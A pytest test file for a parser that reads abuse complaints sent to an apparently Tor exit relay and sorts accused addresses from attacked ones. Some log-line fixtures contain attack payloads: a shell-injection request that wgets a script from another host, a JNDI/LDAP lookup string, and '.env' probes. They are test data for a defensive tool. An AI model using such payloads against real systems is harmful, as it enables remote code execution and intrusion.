"""Who is accused, and who was attacked: lists, rows, quotations and guesses."""

import pytest

from exitpolicy.complaint import Complaint, read_complaint
from exitpolicy.core.destination import parse_destination

OWN = "185.220.101.4"
HEAD = (
    "From: Ann <ann@victim.example>\nTo: abuse@exit.example\nSubject: {subject}\n"
    "Date: Sun, 22 Nov 2026 10:00:00 +0100\nMessage-ID: <1@victim.example>\n\n"
)


def read(text: str, subject: str = "abuse") -> Complaint:
    """Read a mail with this text."""
    data = (HEAD.format(subject=subject) + text).encode()
    return read_complaint(data, own=[parse_destination(OWN)])


def destinations(complaint: Complaint) -> list[str]:
    """Return the candidates as text, in order."""
    return [str(candidate.destination) for candidate in complaint.candidates]


ACCUSED = "91.201.214.30"
"""Accused together with the relay."""
VICTIM = "93.184.216.34"


@pytest.mark.parametrize(
    "text",
    [
        "Our server was attacked by these hosts:\n\n{a}\n{o}\n91.201.214.31\n",
        "The following were banned on our web server:\n* {a}\n* {o}\n* 91.201.214.31\n",
        "Attacks on our systems:\n1. {o} (exit)\n2. {a} (unknown)\n",
        "We were attacked by {a}, {o} and 91.201.214.31 on our server.\n",
        "ip,hostname,last_seen\n{o},exit,2026-11-20 10:00:00\n{a},Zayden,2026-11-19 10:00:00\n",
        "time;ip;asn;cc\n2026-11-20 10:00;{a};64600;NL\n2026-11-20 10:01;{o};64601;NL\n",
        (
            '"timestamp","ip","port","hostname"\n"2026-11-20","{o}",137,"h.example"\n'
            '"2026-11-20","{a}",137,\n'
        ),
        (
            "IP               Time                 Country\n"
            "{o}    2026-11-20 10:00:00  NL\n{a}    2026-11-20 10:05:00  DE\n"
        ),
        "| IP | Attempts |\n|----|----|\n| {a} | 7 |\n| {o} | 9 |\n",
        "Infected machines in your network:\n{o} | exit.example | conficker\n{a} | - | mirai\n",
    ],
)
def test_who_shares_a_list_with_the_relay_is_accused(text: str) -> None:
    """A neighbour of the relay in a list, a column or an enumeration is no destination."""
    assert destinations(read(text.format(o=OWN, a=ACCUSED))) == []


def test_an_enumeration_in_the_subject_is_accused() -> None:
    """The subject accuses all of the addresses that it enumerates with the relay's."""
    subject = f"IPs {ACCUSED}, {OWN} send POST requests to our servers"
    assert destinations(read("The log is available on request.", subject=subject)) == []


def test_a_list_of_victims_is_not_accused() -> None:
    """The relay in a line above a list is not in the list."""
    text = f"Attacks by\n\n{OWN}\n\non our hosts:\n\n{VICTIM}\n93.184.216.35\n"
    assert destinations(read(text)) == [VICTIM, "93.184.216.35"]


@pytest.mark.parametrize(
    "text",
    [
        (
            "% This is the RIPE Database query service.\n% Information related to "
            "'185.220.0.0 - 185.220.127.255'\n\ninetnum: 185.220.0.0 - 185.220.127.255\n"
        ),
        (
            "NetRange:       185.220.100.0 - 185.220.103.255\nCIDR: 185.220.100.0/22\n"
            "Organization:   Our Server Hosting (SH-12)\n"
        ),
        "route:          185.220.0.0/17\ndescr: server network\n",
        "The range 185.200.0.0 - 185.230.255.255 belongs to your server hosting.\n",
        "We will block all traffic from/to 91.201.214.0/24.\n",
        "We drop packets to and from 91.201.214.0/24 on our server from now on.\n",
        "URL,IP,Host,Type\nhttp://a.example.net/login,91.201.214.9,FASTHOST,Phishing\n",
        "Servers that were seen:\n91.201.214.9\n91.202.214.9\n91.203.214.9\n",
        "2026-11-20;91.201.214.9;server attacked;64600\n",
    ],
)
def test_what_is_no_ground_for_a_guess(text: str) -> None:
    """Rows, lists, whois records and ranges mention addresses that nobody attacked."""
    assert destinations(read(f"{OWN} tries to log in to our mail accounts.\n\n{text}")) == []


@pytest.mark.parametrize(
    ("subject", "text"),
    [
        ("Phishing site", "Server: {v}\nRedirects to http://b.example/ on server 91.201.214.9\n"),
        ("Spam", "Spamvertised link: http://b.example/x\nIP: {v} HOST: Leasehost\n"),
        ("Spam", "Link: http://b.example/x\nHosted on server: {v}\n"),
        ("Bomb threat", "It was written on the server {v}, which stores the comments.\n"),
    ],
)
def test_a_hosted_site_is_no_guess(subject: str, text: str) -> None:
    """A report of a site, a spam or a threat mentions hosts, and none of them as a victim."""
    assert destinations(read(f"About {OWN}:\n\n{text.format(v=VICTIM)}", subject)) == []


def test_a_guess_needs_an_own_address() -> None:
    """If the report does not name the relay, an address that is only mentioned is no victim."""
    text = f"Somebody guesses passwords. The server has the address {VICTIM}.\n"
    assert destinations(read(f"It was {OWN}. {text}")) == [VICTIM]
    assert destinations(read(f"It was 91.201.214.9. {text}")) == []


def test_destinations_come_from_rows_of_the_relay() -> None:
    """What another accused host attacked is not offered, not even as a guess."""
    text = (
        "time,ip,malware,dst_ip,dst_port\n"
        f"2026-11-20,{OWN},tinba,{VICTIM},443\n"
        f"2026-11-20,{ACCUSED},tinba,93.184.216.35,80\n"
    )
    assert destinations(read(text)) == [f"{VICTIM}:443"]
    alone = text.replace(VICTIM, "").replace("443", "")
    assert destinations(read(alone)) == []


@pytest.mark.parametrize(
    "text",
    [
        (
            "We see attacks from your network ( {o} ) towards\n{v}:\n\n"
            '{o} - - [20/Nov/2026:10:00:00 +0000] "GET /.env HTTP/1.1" 404 1\n'
        ),
        "There were scans by {o} against\n{v}\n",
        'Logs are from {v}:\n{o} - - [20/Nov/2026:10:00:00 +0000] "GET /.env HTTP/1.1" 404 1\n',
        "Here are some log lines from {v}, in UTC.\n20/Nov 10:00:00 probe of {o}\n",
        "Auszug aus dem Log von {v}:\n20/Nov 10:00:00 probe {o}\n",
        (
            "time,client_ip,user_agent,edge_node_ip\n2026-11-20 10:00:00,{o},"
            '"Mozilla/5.0 (X11) AppleWebKit/605.1 Version/17.2 Safari/604.1",{v}\n'
        ),
        "Attack of {o} with firmware 9.1 of a camera on our server {v}\n",
    ],
)
def test_the_attacked_host_is_found(text: str) -> None:
    """The victim is named by a preposition, as the host of a log, or by a column."""
    assert destinations(read(text.format(o=OWN, v=VICTIM))) == [VICTIM]


def test_a_version_is_no_address() -> None:
    """Four numbers after "version" are no victim."""
    text = f"{OWN} attacks our server {VICTIM} with Scanner, version 10.12.3.4 and build 8.1.2.3.\n"
    assert destinations(read(text)) == [VICTIM]


@pytest.mark.parametrize(
    "text",
    [
        "Affected host: 10.0.0.5,{v}\nAttacker: {o}\nPort: 22\n",
        "src={o} dst=10.0.0.5,{v} dport=22",
        "Our server 10.0.0.5/{v} was attacked by {o} on port 22",
        "time,attacker,victim,port\n10:00,{o},10.0.0.5,{v},22\nPort: 22\n",
    ],
)
def test_a_private_and_a_public_address_are_one_host(text: str) -> None:
    """Of a pair without a blank between, the public one is the destination."""
    assert destinations(read(text.format(o=OWN, v=VICTIM)))[0].startswith(VICTIM)


def test_rows_without_a_heading_accuse_their_first_address() -> None:
    """The first address of each row is accused, and the victims of the others are not offered."""
    text = (
        f"64500|{OWN}|2026-11-20|exit.example|mwtype a destaddr: {VICTIM}\n"
        f"64500|{ACCUSED}|2026-11-20|host|mwtype b destaddr: 93.184.216.35\n"
    )
    assert destinations(read(text)) == [VICTIM]


def test_a_flow_and_its_answer_accuse_only_the_relay() -> None:
    """In rows that name the relay first and second, the other address is the victim."""
    text = f"2026 {OWN} {VICTIM} 4711 22 attack\n2026 {VICTIM} {OWN} 22 4711 attack\n"
    assert destinations(read(text))[0].startswith(VICTIM)


def test_a_record_of_another_host_names_no_destination() -> None:
    """In a report with a record for each accused, only the relay's record counts."""
    record = "Source: {}\nTime: 2026-11-20 10:00\nTarget: {}\nPort: 22\n"
    records = "\n".join(
        record.format(source, target)
        for source, target in (
            (ACCUSED, "93.184.216.35"),
            (OWN, VICTIM),
            ("91.201.214.31", "93.184.216.36"),
        )
    )
    assert destinations(read(f"Attacks from your network:\n\n{records}")) == [f"{VICTIM}:22"]


def test_a_record_of_another_host_counts_if_the_relay_has_none() -> None:
    """Where the relay and the victim are in different paragraphs, there are no records."""
    text = f"Source: {OWN}\n\nOther source: {ACCUSED}\nTarget: {VICTIM}\n"
    assert destinations(read(text)) == [VICTIM]


@pytest.mark.parametrize(
    "text",
    [
        "Since 10:00 we get 200k packets per second from {o} against {v}\n",
        "Von: {o}\nNach: {v}\n",
        "#fields ts uid id.orig_h id.resp_h\n1700000000.1 C1 {o} {v} tcp 1 2 3\n",
        "srcip={o} srcport=40000 dstip=10.1.1.5 tranip={v} action=deny\n",
    ],
)
def test_a_flow_needs_no_verb(text: str) -> None:
    """`From A to B`, fields of these names, and the rows of logs tell the victim."""
    assert destinations(read(text.format(o=OWN, v=VICTIM))) == [VICTIM]


def test_a_record_of_whois_names_no_victim() -> None:
    """Also its comments, up to the empty line, are those of a registry."""
    record = "NetRange: 185.220.100.0 - 185.220.103.255\nComment: our server is {}\n"
    text = f"{OWN} attacks us.\n\n{record.format('91.1.2.3')}\nOur server: {VICTIM}\n"
    assert destinations(read(text)) == [VICTIM]


def test_what_a_payload_would_load_is_no_victim() -> None:
    """The host of a link inside a request is not the one that was attacked."""
    row = (
        f'{{"src_ip":"{OWN}","dest_ip":"{VICTIM}","url":"/?x=${{jndi:ldap://{ACCUSED}:1389/a}}"}}\n'
    )
    assert destinations(read(f"Attack:\n{row}")) == [VICTIM]


def test_a_private_address_beside_is_no_victim() -> None:
    """A balancer in the same log line is no destination; one with a port may be the victim."""
    row = f'{{"client":"{OWN}","lb":"10.20.0.7","method":"GET"}}\n'
    assert destinations(read(f"It scrapes our site:\n{row}")) == []


@pytest.mark.parametrize(
    "text",
    [
        "SSH attacks from {o} (along with {a}) against our server {v}.",
        "Attaques SSH depuis {o} (ainsi que {a}) contre notre serveur {v}.",
        "SSH-Angriffe von {o} sowie {a} auf unseren Server {v}.",
        "Attacker {o}; also {a} took part in the attack on {v}:22.",
    ],
)
def test_who_attacked_together_is_no_victim(text: str) -> None:
    """Who is named together with the relay has its role."""
    assert destinations(read(text.format(o=OWN, a=ACCUSED, v=VICTIM))) == [f"{VICTIM}:22"]


def test_an_address_in_the_parameters_of_a_request_is_no_victim() -> None:
    """The attacker wrote it: there is what the victim would load."""
    row = (
        '{o} - - [16/Nov/2026:05:33:12 +0000] "GET /shell?cd+/tmp;wget+http://{a}/m.sh HTTP/1.1"'
        ' 404 0 "-" "Hello, World"'
    )
    assert destinations(read(f"Attack:\n{row.format(o=OWN, a=ACCUSED)}\n")) == []


def test_our_own_answer_names_no_victim() -> None:
    """What the sender quotes is ours, if it quotes the sender in turn."""
    answer = f"> {OWN} is a Tor exit. The attack was on {ACCUSED}, port 9131.\n"
    quoted = "> On Mon, 16 Nov 2026 at 18:55, Ann <ann@victim.example> wrote:\n> > Attack by you.\n"
    assert destinations(read(f"Please confirm.\n\n{answer}>\n{quoted}")) == []
    assert destinations(read(f"Please act.\n\n{answer}")) == [f"{ACCUSED}:9131"]


def test_who_is_only_beside_a_named_victim_is_none() -> None:
    """A gateway in the log line is no destination, if a key tells the victim."""
    gateway = "93.184.216.1"
    row = f"time=10:00:00 fw={gateway} src={OWN} dst={VICTIM} proto=tcp"
    assert destinations(read(f"Port scan:\n{row}\n")) == [VICTIM]


@pytest.mark.parametrize(
    ("sentence", "is_victim"),
    [
        ("Our firewall ({v}) has blocked it.", False),
        ("Our IDS at {v} detected it.", False),
        ("Unsere Firewall ({v}) hat sie gesperrt.", False),
        ("Notre pare-feu ({v}) l'a bloquée.", False),
        ("Nuestro cortafuegos ({v}) la ha bloqueado.", False),
        ("Our firewall {v} was attacked.", True),
    ],
)
def test_a_firewall_that_only_blocked_is_no_victim(sentence: str, is_victim: bool) -> None:
    """Words may stand between the address and the verb."""
    text = f"The address {OWN} attacks us.\n{sentence.format(v=VICTIM)}\n"
    assert destinations(read(text)) == ([VICTIM] if is_victim else [])
